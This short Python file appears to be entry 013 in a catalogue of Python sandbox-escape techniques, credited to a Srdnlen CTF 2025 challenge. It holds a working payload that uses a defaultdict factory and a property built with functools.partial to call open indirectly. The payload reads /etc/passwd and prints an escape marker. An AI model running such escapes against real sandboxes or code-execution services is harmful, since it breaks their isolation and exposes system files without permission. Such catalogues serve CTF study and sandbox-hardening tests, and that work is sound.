# escape: 013
# technique: defaultdict(factory) / functools.partial / property / cached_property / __missing__ call it from slots
# family: callback
# goal: read-file
# first-seen: Srdnlen CTF 2025 (default dict abuse)
import collections, functools
d = collections.defaultdict(functools.partial(open, '/etc/passwd'))
class X: p = property(functools.partial(open)); __fspath__ = lambda s: '/etc/passwd'
if 'root:' in d[0].readline() and 'root:' in X().p.readline(): print('ESCAPED:defaultdict/property')
